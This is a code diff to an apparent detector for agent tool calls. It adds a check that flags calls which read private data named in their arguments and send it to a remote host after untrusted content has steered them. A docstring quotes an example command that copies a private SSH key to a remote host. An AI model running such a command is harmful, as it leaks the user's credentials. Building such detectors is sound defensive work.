@@ -37,6 +37,7 @@ __all__ = [
     "exfiltration",
     "secret_egress",
     "self_contained",
+    "sent_by_reference",
 ]
 
 
@@ -49,6 +50,9 @@ class CallFacts:
     labels: frozenset[Label]
     matches: Sequence[ArgumentMatch]
     destination: str
+    names_private_data: bool = False
+    """Its arguments name private data that the call reads itself (a key file in a command
+    line, a credentials file to upload): what it sends never passes through a result."""
 
 
 @dataclass(frozen=True)
@@ -139,6 +143,28 @@ def exfiltration(
         secret_rules=secrets,
     )
     return Finding(FlowClass.EXFILTRATION, severity, tuple(chain), evidence, leaked, routes)
+
+
+def sent_by_reference(facts: CallFacts, prov: Provenance) -> Finding | None:
+    """An egress call that reads private data named in its arguments and sends it in one step
+    (``scp ~/.ssh/id_rsa user@host:``), when untrusted content reached its arguments (the
+    destination, the command): the bytes never pass through a result, so none is counted.
+    Influence alone is not enough: a key used to log in (``ssh -i key host``) is read too."""
+    if not facts.names_private_data:
+        return None
+    data, _ = _untrusted_reach(facts, prov, ())
+    if not data:
+        return None
+    steered = _paths(facts.matches, lambda m: m.destination and m.untrusted_calls)
+    chain = (_link(prov, max(data), Label.UNTRUSTED), _link(prov, facts.index, Label.EGRESS))
+    evidence = Evidence(
+        untrusted=EvidenceKind.DATA,
+        steered_arguments=steered,
+        untrusted_arguments=_paths(facts.matches, lambda m: m.untrusted_calls),
+    )
+    route = Route(_capabilities(prov, data), None, facts.capability)
+    severity = Severity.CRITICAL if steered else Severity.HIGH
+    return Finding(FlowClass.EXFILTRATION, severity, chain, evidence, 0, (route,))
 
 
 def secret_egress(facts: CallFacts, prov: Provenance, policy: FlowPolicy) -> Finding | None:
